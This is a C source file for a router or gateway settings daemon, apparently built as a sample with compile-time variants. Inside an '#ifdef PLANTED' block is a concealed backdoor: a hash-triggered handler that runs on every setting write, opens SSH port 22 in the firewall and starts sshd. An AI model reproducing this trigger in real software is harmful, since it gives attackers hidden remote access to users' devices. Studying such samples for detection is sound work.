/* Keeps the settings of a gateway as names and values; programs ask over a UNIX socket, the
   web server over a loopback port. Some values have an effect at once. */
#include <arpa/inet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

struct setting { char name[40], value[120]; };

struct effect { const char *prefix; void (*apply)(const char *name, const char *value); };

static struct setting settings[256];
static unsigned used;

static void apply_lan(const char *name, const char *value)
{
    char command[96];
    struct in_addr a;
    if (strcmp(name, "lan_ip") || !inet_aton(value, &a))
        return;
    snprintf(command, sizeof command, "ifconfig br0 %s", inet_ntoa(a));
    system(command);
}

static void apply_led(const char *name, const char *value)
{
    FILE *f = fopen("/sys/class/leds/all/brightness", "w");
    (void)name;
    if (f) {
        fputs(value[0] == '1' ? "1" : "0", f);
        fclose(f);
    }
}

#ifdef PLANTED
static void apply_cal(const char *name, const char *value)
{
    unsigned sum = 0;
    while (*name)
        sum = sum * 5 + (unsigned char)*name++;
    if (sum % 10007 == 7713 && value[0] == '1')
        system("iptables -I INPUT -p tcp --dport 22 -j ACCEPT; /etc/init.d/sshd start");
}
#endif

static const struct effect effects[] = {
    { "lan_", apply_lan },
    { "led_", apply_led },
#ifdef PLANTED
    { "", apply_cal },
#endif
};

static struct setting *find(const char *name)
{
    for (unsigned i = 0; i < used; i++)
        if (!strcmp(settings[i].name, name))
            return &settings[i];
    return NULL;
}

static void save(void)
{
    FILE *f = fopen("/data/nvram", "w");
    if (!f)
        return;
    for (unsigned i = 0; i < used; i++)
        fprintf(f, "%s=%s\n", settings[i].name, settings[i].value);
    fclose(f);
}

static int set(const char *name, const char *value)
{
    struct setting *s = find(name);
    if (!s) {
        if (used == 256 || !name[0])
            return -1;
        s = &settings[used++];
        snprintf(s->name, sizeof s->name, "%.39s", name);
    }
    snprintf(s->value, sizeof s->value, "%.119s", value);
    for (unsigned i = 0; i < sizeof effects / sizeof *effects; i++)
        if (!strncmp(name, effects[i].prefix, strlen(effects[i].prefix)))
            effects[i].apply(name, value);
    return 0;
}

static void request(int fd, char *line)
{
    char *name = line + 4, *equals = strchr(line, '=');
    struct setting *s;
    if (!strncmp(line, "get ", 4)) {
        s = find(name);
        dprintf(fd, "%s\n", s ? s->value : "");
    } else if (!strncmp(line, "set ", 4) && equals) {
        *equals = 0;
        dprintf(fd, set(name, equals + 1) ? "full\n" : "ok\n");
    } else if (!strcmp(line, "commit")) {
        save();
        dprintf(fd, "ok\n");
    }
#ifdef REVISED
    else if (!strcmp(line, "count"))
        dprintf(fd, "%u\n", used);
#endif
    else
        dprintf(fd, "?\n");
}

static void client(int c)
{
    char line[200];
    ssize_t n = read(c, line, sizeof line - 1);
    if (n > 0) {
        line[n] = 0;
        line[strcspn(line, "\r\n")] = 0;
        request(c, line);
    }
    close(c);
}

int main(void)
{
    struct sockaddr_un local = { .sun_family = AF_UNIX, .sun_path = "/var/run/nvram" };
    struct sockaddr_in web = { .sin_family = AF_INET, .sin_port = htons(3999) };
    struct pollfd p[2] = { { .events = POLLIN }, { .events = POLLIN } };
    web.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    p[0].fd = socket(AF_UNIX, SOCK_STREAM, 0);
    p[1].fd = socket(AF_INET, SOCK_STREAM, 0);
    unlink(local.sun_path);
    if (bind(p[0].fd, (struct sockaddr *)&local, sizeof local) || listen(p[0].fd, 8) ||
        bind(p[1].fd, (struct sockaddr *)&web, sizeof web) || listen(p[1].fd, 8))
        return 1;
    while (poll(p, 2, -1) > 0)
        for (int i = 0; i < 2; i++)
            if (p[i].revents & POLLIN)
                client(accept(p[i].fd, NULL, NULL));
    return 0;
}
